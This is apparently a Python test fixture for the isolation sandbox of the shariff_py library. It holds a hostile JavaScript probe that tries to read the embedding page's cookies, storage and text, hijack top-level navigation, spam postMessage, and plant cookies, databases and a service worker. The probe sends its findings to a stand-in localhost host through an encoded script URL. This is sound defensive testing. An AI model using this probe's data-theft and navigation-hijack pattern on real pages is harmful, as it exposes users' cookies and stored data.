"""A portal with a gate whose content is a script, its isolated host, and a hostile platform whose script tries what it must not be able to do.

The portal is 127.0.0.1, its isolated host ``localhost`` on the same port: one process, and two sites to a browser. The platform is
``localhost`` on another port, so another origin than the isolated host.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import unquote

from flask import Flask, request
from werkzeug.wrappers import Request, Response

from shariff_py import Shariff
from shariff_py.settings import Settings

GIST = "https://gist.github.com/musterstadt/0123456789abcdef0123456789abcdef"
PASTED = f'<script src="{GIST}.js"></script>'

PROBE = """
const here = new URL(document.currentScript.src).origin;
document.write("<p id='gist'>Text</p>");
const found = {};
const attempt = async (name, act) => {
  try { found[name] = String(await act()); } catch (error) { found[name] = "refused"; }
};
const idb = (act) => new Promise((resolve, reject) => {
  const request = act();
  request.onsuccess = () => resolve(request.result);
  request.onerror = reject;
});
const link = (target) => {
  const made = document.createElement("a");
  Object.assign(made, { href: `${here}/away?${target}`, target });
  document.body.append(made);
  made.click();
};
(async () => {
  await attempt("text of the site", () => parent.document.body.textContent);
  await attempt("cookie of the site", () => parent.document.cookie);
  await attempt("storage of the site", () => parent.localStorage.getItem("town"));
  await attempt("page's address", () => parent.location.href);
  await attempt("own cookie", () => document.cookie);
  await attempt("own storage", () => localStorage.getItem("left") + sessionStorage.getItem("left"));
  await attempt("own databases", async () => (await indexedDB.databases()).map((one) => one.name));
  await attempt("own caches", () => caches.keys());
  await attempt("popup", () => window.open(`${here}/away?popup`));
  await attempt("popup of its own", () => window.open("", "own"));
  await attempt("asks the site", () => fetch("SITE/").then((response) => response.text()));
  const stays = location.search == "?stay";
  if (!stays) await attempt("navigates the page", () => (top.location = `${here}/away?top`, "tried"));
  if (!stays) await attempt("replaces the page", () => (top.location.replace(`${here}/away?replace`), "tried"));
  if (!stays) await attempt("opens into the page", () => (window.open(`${here}/away?open`, "_top"), "tried"));
  if (!stays) await attempt("leads the page away", () => (link("_top"), link("_parent"), link("_blank"), "tried"));
  await attempt("tells the page more", () => {
    for (const height of [99999, -1, "9e9", {}]) parent.postMessage({ shariff: "open", height }, "*");
    for (const shariff of ["else", ["open"], null]) parent.postMessage({ shariff, height: 4000 }, "*");
    return "tried";
  });
  await attempt("leaves a worker", () => navigator.serviceWorker.register("/shariff/static/shariff-isolated.min.js"));
  await attempt("leaves storage", () => (localStorage.setItem("left", "here"), sessionStorage.setItem("left", "here"), "left"));
  await attempt("leaves a cookie", () => {
    document.cookie = "left=here; Max-Age=9999; Path=/";
    document.cookie = "left-2=here; Max-Age=9999; Path=/; SameSite=None; Secure";
    document.cookie = "left-3=here; Max-Age=9999; Path=/; SameSite=None; Secure; Partitioned";
    return document.cookie ? "left" : "held";
  });
  await attempt("leaves a database", async () => ((await idb(() => indexedDB.open("left"))).close(), "left"));
  await attempt("leaves a cache", async () => (await caches.open("left"), "left"));
  const report = document.createElement("script");
  report.src = `${here}/report.js?${encodeURIComponent(JSON.stringify(found))}`;
  document.body.append(report);
})();
"""


@dataclass
class Platform:
    """Plays the platform: its script, where its script reports to, and where it wants to lead people."""

    site: str = ""
    received: list[str] = field(default_factory=list)
    reported: threading.Condition = field(default_factory=threading.Condition)
    there: bool = True
    script: str = PROBE

    def __call__(self, environ: Any, start_response: Any) -> Any:
        request = Request(environ)
        if request.path == "/favicon.ico":
            return Response(status=404)(environ, start_response)
        with self.reported:
            self.received.append(request.full_path)
            self.reported.notify_all()
        content = "" if request.path == "/report.js" else self.script.replace("SITE", self.site)
        answer = Response(content, 200 if self.there else 404, mimetype="text/javascript")
        return answer(environ, start_response)

    def reports(self, number: int) -> list[dict[str, str]]:
        """What the script has found out, once it has reported so often, or ten seconds are over."""
        with self.reported:
            self.reported.wait_for(lambda: len(self._told()) >= number, 10)
            return [json.loads(unquote(path.partition("?")[2])) for path in self._told()]

    def _told(self) -> list[str]:
        return [path for path in self.received if path.startswith("/report.js")]

    @property
    def led_away(self) -> list[str]:
        return [path for path in self.received if path.startswith("/away")]


@dataclass
class Portal:
    """The site, whose settings need the port that it is served on."""

    application: Any = None

    def __call__(self, environ: Any, start_response: Any) -> Any:
        return self.application(environ, start_response)


@dataclass
class IsolatedStage:
    """Portal, isolated host and platform, running."""

    portal: Any
    platform: Platform

    @classmethod
    def set(cls, serve: Callable[[Any], Any]) -> IsolatedStage:
        platform, portal = Platform(), Portal()
        running, stand_in = serve(portal), serve(platform)
        platform.site = running.origin
        portal.application = site(running.origin, running.localhost, stand_in.localhost)
        return cls(running, platform)


def site(origin: str, isolated: str, stand_in: str) -> Flask:
    """A page with two gates, made by the filter from what was pasted."""
    app = Flask(__name__)
    hosts = dict.fromkeys(("gist.github.com", "github.githubassets.com"), stand_in)

    @app.get("/in-the-page")
    def in_the_page() -> Response:
        """What the gate is for: the script where it was pasted."""
        return Response(
            f'<title>Town</title><p>Secret of the page</p><script src="{stand_in}/in-the-page.js"></script>',
            mimetype="text/html",
        )

    @app.after_request
    def as_it_was(response: Any) -> Any:
        if request.path == "/in-the-page":
            response.headers.clear()
            response.headers["Content-Type"] = "text/html"
        return response

    Shariff(app, settings=portal_settings(origin, isolated, hosts))

    @app.get("/")
    def page() -> str:
        head = "" if "without" in request.args else '<script src="/shariff/static/shariff.min.js" defer></script>'
        return app.jinja_env.from_string(
            f"<!doctype html><title>Town</title>{head}<p>Secret of the page</p>{{{{ pasted|gate }}}}"
        ).render(pasted=PASTED * 2)

    return app


def portal_settings(origin: str, isolated: str, stand_in: dict[str, str]) -> Settings:
    return Settings.from_mapping(
        {
            "site": {"origin": origin},
            "frame": {"secrets": ["only for these tests"], "isolated_origin": isolated},
            "releases": {"gist": {"state": "released"}},
            "controllers": {
                "town": {
                    "name": "Town", "contact_url": "/c", "privacy_url": "/p", "alternative_url": "/a",
                    "remember_days": 90, "offer_login": True,
                }
            },
            "counts": {"store": "memory:"},
            "stand_in": stand_in,
        }
    )  # fmt: skip
